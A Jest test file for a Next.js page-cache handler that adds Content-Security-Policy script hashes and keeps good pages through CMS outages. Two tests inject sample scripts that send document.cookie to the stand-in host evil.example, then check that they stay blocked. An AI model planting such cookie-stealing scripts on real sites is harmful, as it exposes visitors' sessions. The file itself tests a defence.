/** @jest-environment node */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { nodeFs } from 'next/dist/server/lib/node-fs-methods';
import RenderResult from 'next/dist/server/render-result';
import { sendRenderResult } from 'next/dist/server/send-payload';
import { INCOMPLETE_CARD_HEADERS } from '../../seo/og-card';
import { CONSENT_PENDING_SCRIPT } from '../../consent/first-paint.mjs';
import { GTM_INIT_SCRIPT, hashSource } from '../../security/script-sources.mjs';
import { LOADER, withScriptsAfterPaint } from '../scripts-after-paint.mjs';
import { answersWrongMethod, INCOMPLETE_CACHE_SECONDS, isIncompleteRender, type CacheValue } from '../good-answers.mjs';
import { asciiPage } from '../ascii-page.mjs';
import PageCacheHandler from '../handler.mjs';
import { readBasePolicy, withPagePolicy } from '../script-hashes.mjs';
import { servedSize } from '../served-entries.mjs';
import { buildFolder, freshHandler as freshModuleHandler } from './helpers';

const BASE =
  "default-src 'self'; script-src 'self' 'unsafe-inline' https://www.googletagmanager.com; object-src 'none'; frame-ancestors 'none'";
// The site's own inline scripts, allowed on every page: the tag manager's init snippet, the cookie notice's first-paint line.
const SITE = [hashSource(GTM_INIT_SCRIPT), hashSource(CONSENT_PENDING_SCRIPT), hashSource(LOADER)];

const page = (...scripts: string[]) =>
  `<!DOCTYPE html><html><head><script src="/_next/static/chunks/main.js" async=""></script></head><body>${scripts
    .map((script) => `<script>${script}</script>`)
    .join('')}<script type="application/ld+json">{"@type":"Dentist"}</script></body></html>`;

/** `{directive: [sources]}` of a policy. */
function parse(policy: unknown): Record<string, string[]> {
  expect(typeof policy).toBe('string');
  return Object.fromEntries(
    String(policy)
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .map(([name = '', ...values]) => [name, values]),
  );
}

/** An inline script of the shape Next writes: a flight-data push. */
const flight = (text: string) => `self.__next_f.push([1,${JSON.stringify(text)}])`;
const BOOTSTRAP = '(self.__next_f=self.__next_f||[]).push([0])';

const scriptHashes = (policy: unknown) => (parse(policy)['script-src'] ?? []).filter((source) => source.startsWith("'sha256-"));

describe('withPagePolicy', () => {
  it('gives a page the policy with the hashes of its own inline scripts, keeping its other headers', () => {
    const value: CacheValue = { kind: 'APP_PAGE', html: page(BOOTSTRAP, flight('b')), headers: { 'x-next-cache-tags': 'treatments' } };
    withPagePolicy(value, BASE);
    expect(value.headers?.['x-next-cache-tags']).toBe('treatments');
    const policy = parse(value.headers?.['content-security-policy']);
    expect(policy['script-src']).toEqual([
      "'self'",
      ...SITE,
      hashSource(BOOTSTRAP),
      hashSource(flight('b')),
      'https://www.googletagmanager.com',
    ]);
    expect(policy['object-src']).toEqual(["'none'"]);
    expect(policy['frame-ancestors']).toEqual(["'none'"]);
  });

  it('replaces a stored policy, whatever its case, by the one of the HTML it carries', () => {
    const value: CacheValue = {
      kind: 'APP_PAGE',
      html: page(flight('new')),
      headers: { 'Content-Security-Policy': "script-src 'sha256-old='" },
    };
    withPagePolicy(value, BASE);
    expect(Object.keys(value.headers ?? {})).toEqual(['content-security-policy']);
    expect(scriptHashes(value.headers?.['content-security-policy'])).toEqual([...SITE, hashSource(flight('new'))]);
  });

  it('follows the HTML when the same value object changes', () => {
    const value: CacheValue = { kind: 'APP_PAGE', html: page(flight('one')), headers: {} };
    withPagePolicy(value, BASE);
    value.html = page(flight('two'));
    withPagePolicy(value, BASE);
    expect(scriptHashes(value.headers?.['content-security-policy'])).toEqual([...SITE, hashSource(flight('two'))]);
  });

  it('leaves an inline script the framework did not write without a hash (blocked), and logs it once', () => {
    const error = jest.spyOn(console, 'error').mockImplementation(() => {});
    const injected = 'fetch("https://evil.example/?c="+document.cookie)';
    for (const html of [page(flight('a'), injected), page(flight('b'), injected)]) {
      const value: CacheValue = { kind: 'APP_PAGE', html, headers: {} };
      withPagePolicy(value, BASE);
      const policy = parse(value.headers?.['content-security-policy']);
      expect(policy['script-src']).not.toContain(hashSource(injected));
      expect(policy['script-src']).not.toContain("'unsafe-inline'");
    }
    expect(error).toHaveBeenCalledTimes(1);
    expect(error).toHaveBeenCalledWith(
      `page-cache: an inline script that is not the framework's is left blocked: ${hashSource(injected)} ${JSON.stringify(injected)}`,
    );
    error.mockRestore();
  });

  it('leaves everything but a page with HTML alone', () => {
    const route: CacheValue = { kind: 'APP_ROUTE', body: Buffer.from('x'), headers: { 'content-type': 'image/png' } };
    expect(withPagePolicy(route, BASE).headers).toEqual({ 'content-type': 'image/png' });
    const fetched: CacheValue = { kind: 'FETCH', data: {} };
    expect(withPagePolicy(fetched, BASE)).toEqual({ kind: 'FETCH', data: {} });
    expect(withPagePolicy(null, BASE)).toBeNull();
  });

  it('adds nothing without a base policy (the manifest not written yet), and says so when the build has none', () => {
    const error = jest.spyOn(console, 'error').mockImplementation(() => {});
    const value: CacheValue = { kind: 'APP_PAGE', html: page('a()'), headers: {} };
    withPagePolicy(value, undefined);
    expect(error).not.toHaveBeenCalled();
    withPagePolicy(value, null);
    withPagePolicy(value, null);
    expect(value.headers).toEqual({});
    expect(error).toHaveBeenCalledTimes(1);
    error.mockRestore();
  });
});

describe('PageCacheHandler', () => {
  let dir: string;
  let serverDistDir: string;
  const ctx = { kind: 'APP_PAGE', isFallback: false, isRoutePPREnabled: false };

  beforeEach(() => {
    ({ dir, serverDistDir } = buildFolder('csp-cache-', [
      { source: '/:path*', headers: [{ key: 'X-Content-Type-Options', value: 'nosniff' }] },
      { source: '/:path(api.*)', headers: [{ key: 'Content-Security-Policy', value: BASE }] },
    ]));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  const handler = () => new PageCacheHandler({ fs: nodeFs, serverDistDir, flushToDisk: true, revalidatedTags: [] });

  it("reads the headers() policy from the build's routes manifest", () => {
    expect(readBasePolicy(serverDistDir)).toBe(BASE);
    expect(readBasePolicy(path.join(dir, 'elsewhere', 'server'))).toBeUndefined();
  });

  it('serves a prerendered page with the hashes of the HTML read from disk, not of the stored headers', async () => {
    const html = page('(self.__next_f=self.__next_f||[]).push([0])', 'self.__next_f.push([1,"about"])');
    writeFileSync(path.join(serverDistDir, 'app', 'tr', 'about.html'), html);
    writeFileSync(path.join(serverDistDir, 'app', 'tr', 'about.rsc'), '0:{}');
    writeFileSync(
      path.join(serverDistDir, 'app', 'tr', 'about.meta'),
      JSON.stringify({ status: 200, headers: { 'x-next-cache-tags': 'about', 'content-security-policy': "script-src 'sha256-stale='" } }),
    );
    const entry = await handler().get('/tr/about', ctx);
    // Its chunks listed for the loader (../scripts-after-paint.mjs), whose hash is among the site's.
    expect(entry?.value?.html).toBe(withScriptsAfterPaint(html));
    expect(entry?.value?.html).toContain('id="page-chunks"');
    expect(entry?.value?.headers?.['x-next-cache-tags']).toBe('about');
    expect(scriptHashes(entry?.value?.headers?.['content-security-policy'])).toEqual([
      ...SITE,
      hashSource('(self.__next_f=self.__next_f||[]).push([0])'),
      hashSource('self.__next_f.push([1,"about"])'),
    ]);
  });

  it('gives a page regenerated after a content edit the hashes of its new HTML, on the entry it serves and on later reads', async () => {
    const cache = handler();
    const before: CacheValue = {
      kind: 'APP_PAGE',
      html: page('self.__next_f.push([1,"Beyazlatma"])'),
      rscData: Buffer.from('0:{}'),
      headers: { 'x-next-cache-tags': 't' },
      status: 200,
    };
    await cache.set('/tr/treatment/beyazlatma', before, { cacheControl: { revalidate: 60 } });
    const oldHash = hashSource('self.__next_f.push([1,"Beyazlatma"])');
    expect(scriptHashes(before.headers?.['content-security-policy'])).toContain(oldHash);

    // The CMS edit: the regenerated payload differs, and so does its hash.
    const after: CacheValue = {
      kind: 'APP_PAGE',
      html: page('self.__next_f.push([1,"Beyazlatma (yeni)"])'),
      rscData: Buffer.from('0:{}'),
      headers: { 'x-next-cache-tags': 't' },
      status: 200,
    };
    await cache.set('/tr/treatment/beyazlatma', after, { cacheControl: { revalidate: 60 } });
    const newHash = hashSource('self.__next_f.push([1,"Beyazlatma (yeni)"])');
    // Next serves `after` itself to the request that regenerated the page.
    expect(scriptHashes(after.headers?.['content-security-policy'])).toEqual([...SITE, newHash]);

    const read = await handler().get('/tr/treatment/beyazlatma', ctx);
    expect(read?.value?.html).toBe(after.html);
    expect(scriptHashes(read?.value?.headers?.['content-security-policy'])).toEqual([...SITE, newHash]);
  });

  it('stores a regenerated page as Next rendered it and serves it with its stylesheet inside', async () => {
    mkdirSync(path.join(dir, 'static', 'css'), { recursive: true });
    writeFileSync(path.join(dir, 'static', 'css', 'site.css'), 'body{color:#123}');
    const link = '<link rel="stylesheet" href="/_next/static/css/site.css" data-precedence="next"/>';
    const rendered = `<!DOCTYPE html><html><head>${link}</head><body><script>${flight('Beyazlatma')}</script></body></html>`;
    const value: CacheValue = { kind: 'APP_PAGE', html: rendered, rscData: Buffer.from('0:{}'), headers: {}, status: 200 };
    await handler().set('/tr/treatment/beyazlatma', value, { cacheControl: { revalidate: 60 } });

    // The request that regenerated the page gets the stylesheet's rules in its HTML.
    expect(value.html).toContain('<style data-page-css="">body{color:#123}</style>');
    // On disk it is as rendered, so a server started with INLINE_PAGE_CSS=0 serves it with its link.
    expect(readFileSync(path.join(serverDistDir, 'app', 'tr', 'treatment', 'beyazlatma.html'), 'utf8')).toBe(rendered);
    const read = await handler().get('/tr/treatment/beyazlatma', ctx);
    expect(read?.value?.html).toContain('<style data-page-css="">body{color:#123}</style>');
    expect(scriptHashes(read?.value?.headers?.['content-security-policy'])).toEqual([...SITE, hashSource(flight('Beyazlatma'))]);
  });

  it('serves a cached page whose HTML gained an inline script with a policy that blocks that script', async () => {
    const error = jest.spyOn(console, 'error').mockImplementation(() => {});
    const injected = 'new Image().src="https://evil.example/?"+document.cookie';
    const html = page(BOOTSTRAP, flight('about'), injected);
    writeFileSync(path.join(serverDistDir, 'app', 'tr', 'about.html'), html);
    writeFileSync(path.join(serverDistDir, 'app', 'tr', 'about.rsc'), '0:{}');
    writeFileSync(path.join(serverDistDir, 'app', 'tr', 'about.meta'), JSON.stringify({ status: 200, headers: {} }));
    const entry = await handler().get('/tr/about', ctx);
    const scripts = parse(entry?.value?.headers?.['content-security-policy'])['script-src'] ?? [];
    expect(scripts.filter((source) => source.startsWith("'sha256-"))).toEqual([
      ...SITE,
      hashSource(BOOTSTRAP),
      hashSource(flight('about')),
    ]);
    // No hash, no 'unsafe-inline' and no nonce for it: the browser refuses to run it.
    expect(scripts).not.toContain(hashSource(injected));
    expect(scripts.filter((source) => source === "'unsafe-inline'" || source.startsWith("'nonce-"))).toEqual([]);
    expect(error).toHaveBeenCalledWith(expect.stringContaining(`left blocked: ${hashSource(injected)}`));
    error.mockRestore();
  });
});

describe('PageCacheHandler: only good answers are stored', () => {
  let dir: string;
  let serverDistDir: string;
  const pageCtx = { kind: 'APP_PAGE', isFallback: false, isRoutePPREnabled: false };
  const routeCtx = { kind: 'APP_ROUTE', isFallback: false, isRoutePPREnabled: false };
  const life = { cacheControl: { revalidate: 60, expire: 31536000 } };

  beforeEach(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'csp-cache-good-'));
    serverDistDir = path.join(dir, 'server');
    mkdirSync(path.join(serverDistDir, 'app'), { recursive: true });
    writeFileSync(
      path.join(dir, 'routes-manifest.json'),
      JSON.stringify({ headers: [{ source: '/:path*', headers: [{ key: 'Content-Security-Policy', value: BASE }] }] }),
    );
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  /** A fresh module (its memory is the process's), with a memory of `maxMemoryCacheSize` bytes. */
  const freshHandler = (maxMemoryCacheSize?: number) => freshModuleHandler(serverDistDir, maxMemoryCacheSize);

  const sitemap = (status: number, body: string): CacheValue => ({
    kind: 'APP_ROUTE',
    status,
    body: Buffer.from(body),
    headers: { 'content-type': 'application/xml' },
  });
  const aboutPage = (text: string, extra = ''): CacheValue => ({
    kind: 'APP_PAGE',
    html: `<!DOCTYPE html><html><head></head><body><main><p>${text}</p>${extra}</main><script>${flight(text)}</script></body></html>`,
    rscData: Buffer.from(`0:"${text}"`),
    headers: { 'x-next-cache-tags': 'doctors' },
    status: 200,
  });
  const INCOMPLETE = '<template data-content-incomplete=""></template>';

  it('never stores the 405 of a request in a method the route does not take: the good answer stays, in memory and on disk', async () => {
    const handler = await freshHandler();
    await handler().set('/sitemap.xml', sitemap(200, '<urlset/>'), life);
    await handler().set('/sitemap.xml', sitemap(405, ''), life);
    const read = await handler().get('/sitemap.xml', routeCtx);
    expect(read?.value?.status).toBe(200);
    expect(String(read?.value?.body)).toBe('<urlset/>');
    // A process that starts now reads the disk: the good answer there too.
    const fromDisk = await (await freshHandler())().get('/sitemap.xml', routeCtx);
    expect(fromDisk?.value?.status).toBe(200);
    expect(answersWrongMethod(sitemap(405, ''))).toBe(true);
    expect(answersWrongMethod(sitemap(200, 'x'))).toBe(false);
  });

  it('serves a page rendered with a failed content load for a short while, and keeps serving the good page it did not replace', async () => {
    const handler = await freshHandler();
    await handler().set('/tr/about', aboutPage('Ekibimiz'), life);
    const good = await handler().get('/tr/about', pageCtx);
    expect(good?.value?.html).toContain('Ekibimiz');

    const incomplete = aboutPage('Ekip yüklenemedi', INCOMPLETE);
    expect(isIncompleteRender(incomplete)).toBe(true);
    const before = Date.now();
    await handler().set('/tr/about', incomplete, life);
    // The request that rendered it gets it, cacheable for INCOMPLETE_CACHE_SECONDS, with its policy.
    expect(incomplete.headers?.['cache-control']).toBe(`public, max-age=0, s-maxage=${INCOMPLETE_CACHE_SECONDS}`);
    // Served as ASCII (../ascii-page.mjs), hashed as served.
    expect(scriptHashes(incomplete.headers?.['content-security-policy'])).toContain(
      hashSource('self.__next_f.push([1,"Ekip y\\u00fcklenemedi"])'),
    );

    // Every later request gets the good page, fresh for INCOMPLETE_CACHE_SECONDS: then the render is tried again.
    const kept = await handler().get('/tr/about', pageCtx);
    expect(kept?.value?.html).toContain('Ekibimiz');
    expect(kept?.cacheControl).toEqual({ revalidate: INCOMPLETE_CACHE_SECONDS, expire: 31536000 });
    expect(kept?.lastModified).toBeGreaterThanOrEqual(before);
    // The disk keeps the good page too.
    expect(readFileSync(path.join(serverDistDir, 'app', 'tr', 'about.html'), 'utf8')).toContain('Ekibimiz');

    // A complete render replaces it.
    await handler().set('/tr/about', aboutPage('Yeni ekibimiz'), life);
    expect((await handler().get('/tr/about', pageCtx))?.value?.html).toContain('Yeni ekibimiz');
  });

  it('reads a page whose tags a webhook revalidated from disk again (Next then renders it anew), and keeps it through an outage', async () => {
    const handler = await freshHandler();
    await handler().set('/tr/about', aboutPage('Ekibimiz'), life);
    expect((await handler().get('/tr/about', pageCtx))?.value?.html).toContain('Ekibimiz');
    await new Promise((resolve) => setTimeout(resolve, 5));
    // The webhook: `revalidateTag('doctors', { expire: 0 })`. Next's file-system cache answers null
    // for the page now, so the next request renders it while the visitor waits.
    await handler().revalidateTag(['doctors'], { expire: 0 });
    expect(await handler().get('/tr/about', pageCtx)).toBeNull();
    // That render met the CMS down: the page it would have replaced is kept for the next requests.
    await handler().set('/tr/about', aboutPage('Ekip yüklenemedi', INCOMPLETE), life);
    const kept = await handler().get('/tr/about', pageCtx);
    expect(kept?.value?.html).toContain('Ekibimiz');
    expect(kept?.cacheControl?.revalidate).toBe(INCOMPLETE_CACHE_SECONDS);
    // Other tags leave it alone.
    await handler().revalidateTag('articles', { expire: 0 });
    expect((await handler().get('/tr/about', pageCtx))?.value?.html).toContain('Ekibimiz');
  });

  it('serves a page a build prerendered while a content load failed with the short cache life too', async () => {
    mkdirSync(path.join(serverDistDir, 'app', 'tr'), { recursive: true });
    writeFileSync(path.join(serverDistDir, 'app', 'tr', 'about.html'), aboutPage('Ekip yüklenemedi', INCOMPLETE).html as string);
    writeFileSync(path.join(serverDistDir, 'app', 'tr', 'about.rsc'), '0:{}');
    writeFileSync(
      path.join(serverDistDir, 'app', 'tr', 'about.meta'),
      JSON.stringify({ status: 200, headers: { 'x-next-cache-tags': 'doctors' } }),
    );
    const read = await (await freshHandler())().get('/tr/about', pageCtx);
    expect(read?.value?.headers?.['cache-control']).toBe(`public, max-age=0, s-maxage=${INCOMPLETE_CACHE_SECONDS}`);
    expect(read?.value?.headers?.['x-next-cache-tags']).toBe('doctors');
  });

  it('stores an incomplete render nowhere when it knows no good page for the key', async () => {
    const handler = await freshHandler();
    await handler().set('/tr/blogs/_/1', aboutPage('Yazılar yüklenemedi', INCOMPLETE), life);
    expect(await handler().get('/tr/blogs/_/1', pageCtx)).toBeNull();
  });

  it('treats a sharing card drawn without its content the same way, and takes the mark off what it serves', async () => {
    const handler = await freshHandler();
    const card = (text: string, headers: Record<string, string> = {}): CacheValue => ({
      kind: 'APP_ROUTE',
      status: 200,
      body: Buffer.from(text),
      headers: { 'content-type': 'image/png', ...headers },
    });
    await handler().set('/tr/treatment/implant/opengraph-image/card', card('implant'), life);
    await handler().get('/tr/treatment/implant/opengraph-image/card', routeCtx);
    const drawn = card('tedaviler', INCOMPLETE_CARD_HEADERS);
    expect(isIncompleteRender(drawn)).toBe(true);
    await handler().set('/tr/treatment/implant/opengraph-image/card', drawn, life);
    expect(drawn.headers).toEqual({
      'content-type': 'image/png',
      'cache-control': `public, max-age=0, s-maxage=${INCOMPLETE_CACHE_SECONDS}`,
    });
    expect(String((await handler().get('/tr/treatment/implant/opengraph-image/card', routeCtx))?.value?.body)).toBe('implant');
  });

  it('counts a page in memory as it is served, its CSS inside, and drops the least recently used past the budget', async () => {
    mkdirSync(path.join(dir, 'static', 'css'), { recursive: true });
    const css = `body{color:#123}${'.x{margin:0}'.repeat(2000)}`;
    writeFileSync(path.join(dir, 'static', 'css', 'site.css'), css);
    const link = '<link rel="stylesheet" href="/_next/static/css/site.css" data-precedence="next"/>';
    const stored = (text: string) => `<!DOCTYPE html><html><head>${link}</head><body><p class="x">${text}</p></body></html>`;
    for (const key of ['/tr/a', '/tr/b']) {
      mkdirSync(path.join(serverDistDir, 'app', 'tr'), { recursive: true });
      writeFileSync(path.join(serverDistDir, 'app', `${key}.html`), stored(key));
      writeFileSync(path.join(serverDistDir, 'app', `${key}.rsc`), '0:{}');
      writeFileSync(path.join(serverDistDir, 'app', `${key}.meta`), JSON.stringify({ status: 200, headers: {} }));
    }
    const served = (await (await freshHandler())().get('/tr/a', pageCtx))!;
    const html = served.value?.html as string;
    expect(html.length).toBeGreaterThan(css.length);
    expect(servedSize('/tr/a', served)).toBe('/tr/a'.length + html.length + '0:{}'.length);
    expect(servedSize('/tr/a', served)).toBeGreaterThan(2 * stored('/tr/a').length);

    // A budget of one served page: reading the second drops the first from memory (the disk still has it).
    const one = await freshHandler(servedSize('/tr/a', served) + 10);
    const first = await one().get('/tr/a', pageCtx);
    expect(await one().get('/tr/a', pageCtx)).toBe(first); // from memory: the same entry
    await one().get('/tr/b', pageCtx);
    const again = await one().get('/tr/a', pageCtx);
    expect(again).not.toBe(first); // read from disk again
    expect(again?.value?.html).toBe(html);
  });
});

describe('what the handler relies on of Next (docs/architecture.md, "Framework internals")', () => {
  it("Next's sendRenderResult writes a cached page's HTML as the very string the cache gave it, which Node sends without encoding it again when it is ASCII", async () => {
    const html = asciiPage('<!DOCTYPE html><html lang="tr"><body><h1>Kadıköy’de implant</h1></body></html>');
    const written: unknown[] = [];
    const headers = new Map<string, unknown>();
    const res = {
      finished: false,
      headersSent: false,
      statusCode: 200,
      getHeader: (name: string) => headers.get(name.toLowerCase()),
      setHeader: (name: string, value: unknown) => headers.set(name.toLowerCase(), value),
      end: (chunk: unknown) => written.push(chunk),
    };
    await sendRenderResult({
      req: { method: 'GET', headers: {} } as never,
      res: res as never,
      result: RenderResult.fromStatic(html, 'text/html; charset=utf-8'),
      generateEtags: true,
      poweredByHeader: false,
      cacheControl: undefined,
    });
    const internal =
      'next/dist/server/send-payload.js (lib/page-cache/ascii-page.mjs): sendRenderResult hands the cached HTML string to res.end as it is';
    expect({ internal, written }).toEqual({ internal, written: [html] });
  });

  it("Next's file-system cache keeps no memory of its own when its constructor gets maxMemoryCacheSize 0: the handler's memory counts pages as served", async () => {
    let fileSystemCache: { memoryCache?: unknown } | undefined;
    let Handler: typeof PageCacheHandler | undefined;
    await jest.isolateModulesAsync(async () => {
      const next = await import('next/dist/server/lib/incremental-cache/file-system-cache.js');
      fileSystemCache = (next.default ?? next) as unknown as { memoryCache?: unknown };
      Handler = (await import('../handler.mjs')).default;
    });
    const dir = mkdtempSync(path.join(tmpdir(), 'csp-cache-next-'));
    try {
      new Handler!({
        fs: nodeFs,
        serverDistDir: path.join(dir, 'server'),
        flushToDisk: true,
        revalidatedTags: [],
        maxMemoryCacheSize: 1024,
      });
      expect({
        internal: 'next/dist/server/lib/incremental-cache/file-system-cache.js: the static memoryCache stays off with maxMemoryCacheSize 0',
        memoryCache: fileSystemCache?.memoryCache,
      }).toEqual({
        internal: 'next/dist/server/lib/incremental-cache/file-system-cache.js: the static memoryCache stays off with maxMemoryCacheSize 0',
        memoryCache: undefined,
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
